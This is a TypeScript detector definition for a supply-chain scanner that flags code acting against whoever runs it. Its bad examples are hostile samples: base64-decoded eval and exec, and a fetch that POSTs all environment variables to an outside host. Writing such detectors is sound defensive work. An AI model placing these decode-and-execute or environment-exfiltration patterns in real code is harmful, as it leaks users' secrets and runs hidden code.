import type { RepositoryCheck } from '../../check.ts';
import { hostilePlaces } from '../../knowledge/hostile-places.ts';

export const check: RepositoryCheck = {
  id: 'supply-chain-hostile-code',
  title: 'Code acts against whoever runs it',
  severity: 'low',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    Whoever takes this code in, as a dependency, a plugin or a copied file, takes in what this line does to them.
    The finding of the act itself says how bad it is; this one counts it against where the code comes from.`,
  fix: 'Do not take the code in before somebody has explained this line. Where it ran, treat the machine as compromised.',
  blindSpots: 'Only acts that are visible in the code count; what is fetched later is known by its fetching alone.',
  over: 'repository',
  yieldsTo: [
    'supply-chain-hostile-package',
    'supply-chain-python-import-hook',
    'supply-chain-install-script-malicious',
    'supply-chain-obfuscated-code',
    'supply-chain-hidden-code',
    'supply-chain-embedded-executable',
    'supply-chain-self-propagation',
    'supply-chain-gem-hook',
    'supply-chain-require-time-act',
  ],
  examples: {
    bad: [
      { 'lib/run.rb': "require 'base64'\n«eval(Base64.decode64('cHV0cyAxMjM0NQ=='))»\n" },
      {
        'cmd/main.go':
          'func main() {\n\tcode, _ := base64.StdEncoding.DecodeString("bHMgLWxh")\n\t«exec.Command(string(code))».Run()\n}\n',
      },
      {
        'lib/report.js': `
          const body = JSON.stringify(process.env);
          «fetch('https://collect.acme.io', { method: 'POST', body })»;`,
      },
    ],
    good: [
      { 'lib/run.rb': "require 'base64'\nputs Base64.decode64(ARGV[0])\n" },
      { 'cmd/main.go': 'func main() {\n\texec.Command("git", "status").Run()\n}\n' },
      { 'README.md': "Never write `eval(atob('Y29uc29sZQ=='))`.\n" },
    ],
  },

  *find(repository) {
    const contexts = new Map(repository.files.map((file) => [file.path, file.context]));
    for (const { at, message, confidence } of hostilePlaces(repository)) {
      yield {
        at,
        message,
        // The act is weighed where it belongs; a second sure verdict on the same line would only count it twice.
        confidence: confidence === 'high' ? 'medium' : confidence,
        severity: contexts.get(at.file) === 'runtime' ? undefined : 'info',
      };
    }
  },
};
